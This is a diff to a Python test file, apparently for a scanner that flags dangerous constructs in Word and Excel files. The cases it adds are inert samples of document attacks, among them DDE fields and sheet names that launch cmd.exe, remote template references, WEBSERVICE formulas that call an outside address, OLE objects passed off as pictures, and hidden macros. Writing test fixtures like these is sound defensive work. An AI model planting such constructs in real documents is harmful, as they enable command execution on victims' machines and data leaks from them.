@@ -119,6 +119,8 @@ def together(*changes: Callable[[Parts], None]) -> Callable[[Parts], None]:
 MS = "http://schemas.microsoft.com/office/2006/relationships"
 PICTURE = '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rIdX"/></w:drawing></w:r>'
 V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+CODE = "<w:r><w:instrText>IF 1=1 a b</w:instrText></w:r>"
 IN_WORD: dict[str, tuple[Callable[[Parts], None], str]] = {
     "DDE": (simple("DDE excel C:\\\\a.xlsx"), "paragraph 2"),
     "DDEAUTO over runs": (complex_field(" DDE", "AUTO c:\\\\cmd.exe "), "paragraph 2"),
@@ -210,6 +212,38 @@ IN_WORD: dict[str, tuple[Callable[[Parts], None], str]] = {
         "footnotes",
     ),
     "a field spelt with entities": (simple("&#x44;&#68;E a b"), "paragraph 2"),
+    "text in a field's code": (in_paragraph(f"{BEGIN}<w:r><w:t>NEXT</w:t></w:r>{CODE}{END}"), "paragraph 2"),
+    "a whole field in a field's code": (
+        in_paragraph(f'{BEGIN}<w:fldSimple w:instr="DOCPROPERTY x"><w:r><w:t>x</w:t></w:r></w:fldSimple>{CODE}{END}'),
+        "paragraph 2",
+    ),
+    "a hyperlink of a picture": (used("hyperlink", "http://192.0.2.1/x.png", PICTURE), "paragraph 2"),
+    "a hyperlink of an attached template": (
+        together(
+            lambda parts: related(parts, "word/_rels/settings.xml.rels", "hyperlink", "https://192.0.2.1/a.dotm", "External"),
+            in_part("word/settings.xml", "</w:settings>", f'<w:attachedTemplate xmlns:r="{R}" r:id="rIdX"/>'),
+        ),
+        "word/settings.xml",
+    ),
+    "an object that is called a picture": (
+        together(
+            part("word/media/x.png", "image/png", "image", COMPOUND),
+            in_paragraph(f'<w:r><w:object><o:OLEObject {V} xmlns:r="{R}" r:id="rIdX"/></w:object></w:r>'),
+        ),
+        "paragraph 2",
+    ),
+    "a control": (in_paragraph(f'<w:r><w:object><w:control xmlns:r="{R}" r:id="rId1"/></w:object></w:r>'), "paragraph 2"),
+    "text that other data take the place of": (
+        in_paragraph('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent/></w:sdt>'),
+        "paragraph 2",
+    ),
+    "relations in capitals": (
+        lambda parts: parts.update({"word/_rels/header9.xml.RELS": (
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="a" Type="{R}/attachedTemplate" Target="x.dotm" TargetMode="External"/></Relationships>'
+        ).encode()}),
+        "word/header9.xml",
+    ),
     "SVG": (part("word/media/x.svg", "image/svg+xml", "image", b"<svg/>"), "word/media/x.svg"),
     "sound": (part("word/media/x.wav", "audio/wav", "audio", b"RIFF"), "word/media/x.wav"),
     "a part that nobody knows": (part("word/x.foo", "application/x-foo", "foo", b"x"), "word/x.foo"),
@@ -253,6 +287,14 @@ def in_sheet(xml: str) -> Callable[[Parts], None]:
 
 
 SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
+BUTTON = (
+    b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape>'
+    b'<x:ClientData ObjectType="Button"/></v:shape></xml>'
+)
+SHAPE = (
+    b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><xdr:oneCellAnchor>'
+    b'<xdr:sp textlink="WEBSERVICE(A1)"/></xdr:oneCellAnchor></xdr:wsDr>'
+)
 IN_EXCEL: dict[str, tuple[Callable[[Parts], None], str]] = {
     "WEBSERVICE": (formula('_xlfn.WEBSERVICE("http://192.0.2.1")'), "[Sheet] C1"),
     "HYPERLINK": (formula('HYPERLINK("http://"&amp;A1)&amp;HYPERLINK(A1)'), "[Sheet] C1"),
@@ -306,6 +348,23 @@ IN_EXCEL: dict[str, tuple[Callable[[Parts], None], str]] = {
     "a sheet of macros": (
         part("xl/macrosheets/m.xml", "application/vnd.ms-excel.macrosheet+xml", "xlMacrosheet", b"<a/>", base=MS,
              rels="xl/_rels/workbook.xml.rels"), "xl/macrosheets/m.xml"),
+    "a function behind a space": (formula('WEBSERVICE ("http://192.0.2.1")'), "[Sheet] C1"),
+    "a sheet that is called as a program": (
+        together(
+            in_part(BOOK, "</sheets>", '<sheet name="cmd|\'/c calc" sheetId="9" xmlns:r="' + R + '" r:id="rId1"/>'),
+            formula("'cmd|''/c calc'!A0"),
+        ),
+        "[Sheet] C1",
+    ),
+    "a colour that asks the web": (
+        in_sheet('<conditionalFormatting sqref="B3"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" '
+                 'val="WEBSERVICE(A1)"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule>'
+                 "</conditionalFormatting>"), "[Sheet] B3"),
+    "a button": (
+        part("xl/drawings/v.bin", f"{guard.BOOK[:45]}.vmlDrawing", "vmlDrawing", BUTTON, rels=SHEET_RELS),
+        "xl/drawings/v.bin"),
+    "a shape whose text asks the web": (
+        part("xl/drawings/d.xml", f"{guard.BOOK[:45]}.drawing+xml", "drawing", SHAPE, rels=SHEET_RELS), "xl/drawings/d.xml"),
     "renamed macros": (part("xl/x.png", "image/png", "image", COMPOUND + "VBA".encode("utf-16-le"), rels=SHEET_RELS), ""),
 }  # fmt: skip
 
